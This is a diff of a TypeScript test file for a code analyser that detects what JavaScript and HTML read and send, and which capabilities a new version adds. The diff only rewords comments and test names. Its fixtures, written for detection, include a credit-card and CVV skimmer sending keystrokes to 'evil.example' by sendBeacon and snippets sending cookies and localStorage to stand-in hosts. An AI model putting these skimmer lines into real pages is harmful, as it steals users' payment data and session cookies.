@@ -1,4 +1,4 @@
-// Guards the look at whole files, HTML and escaped text among them, and the set of capabilities that versions are compared by.
+// Analysis of whole files, including HTML and escaped text, and the set of capabilities for comparing versions.
 import { describe, expect, it } from 'vitest'
 import { capabilitiesOf, lookAtCode, newCapabilities } from '#program/index.ts'
 
@@ -6,7 +6,7 @@ const words = (text: string) => capabilitiesOf(lookAtCode(text)).map(({ kind, wh
 const thief =
   'document.querySelector("#cc-number").addEventListener("keyup", (e) => navigator.sendBeacon("https://evil.example/c", e.target.value))'
 
-describe('a look at a file', () => {
+describe('the analysis of a file', () => {
   it('finds the scripts and handlers of HTML, at their places in the file', () => {
     const html = `<!doctype html><p onclick="fetch('https://clicks.example/?' + document.cookie)">Pay</p>\n<script type="text/javascript">//<![CDATA[\n${thief}\n//]]></script>`
     const look = lookAtCode(html)
@@ -20,7 +20,7 @@ describe('a look at a file', () => {
     expect(words(thief.replaceAll('"', '\\"'))).toContain('sends card > evil.example')
   })
 
-  it('leaves data and templates of HTML alone, and says where code has no tree', () => {
+  it('ignores data and templates of HTML, and reports code without a tree', () => {
     expect(lookAtCode('<script type="application/json">{"a": "fetch()"}</script><script>let x = ;</script>')).toMatchObject({
       parsed: 'none',
       facts: [],
@@ -29,7 +29,7 @@ describe('a look at a file', () => {
     expect(lookAtCode('let x = ;').parsed).toBe('none')
   })
 
-  it('keeps apart what several programs of a page read and send', () => {
+  it('separates what several programs of a page read and send', () => {
     const look = lookAtCode(
       '<script>fetch("https://a.example/", { body: document.cookie })</script><script>fetch("https://b.example/", { body: localStorage.getItem("k") })</script>',
     )
@@ -42,11 +42,11 @@ describe('a look at a file', () => {
 })
 
 describe('capabilities', () => {
-  it('name what is read, listened to, sent and where', () => {
+  it('name what is read, monitored, and sent, and the destination', () => {
     expect(words(thief)).toEqual(['contacts evil.example', 'listens keyup card', 'reads card', 'sends card > evil.example'])
   })
 
-  it('tell what a version can do that the one before could not', () => {
+  it('report what a version can do that the previous one could not', () => {
     const before =
       'document.querySelector("#cc-number").addEventListener("input", (e) => { e.target.className = e.target.value.length > 12 ? "ok" : "" })'
     const after = `${before};${thief}`
@@ -59,7 +59,7 @@ describe('capabilities', () => {
     expect(newCapabilities(capabilitiesOf(lookAtCode(after)), capabilitiesOf(lookAtCode(before)))).toEqual([])
   })
 
-  it('are the same for other names of the same program', () => {
+  it('are the same for other names in the same program', () => {
     expect(
       words(
         'function send(a) { var b = a.target.value; navigator.sendBeacon("https://x.example", b) } document.querySelector("[name=cvv]").onkeyup = send',
@@ -71,7 +71,7 @@ describe('capabilities', () => {
     )
   })
 
-  it('are not told of an element that was made in markup and is made by a call', () => {
+  it('are not reported for an element that was created in markup and is then created by a call', () => {
     const of = (text: string) => capabilitiesOf(lookAtCode(text))
     const written = of(`document.body.innerHTML = '<iframe src="https://video.example/"></iframe>'`)
     const made = of(`var f = document.createElement('iframe'); f.src = 'https://video.example/'; document.body.appendChild(f)`)
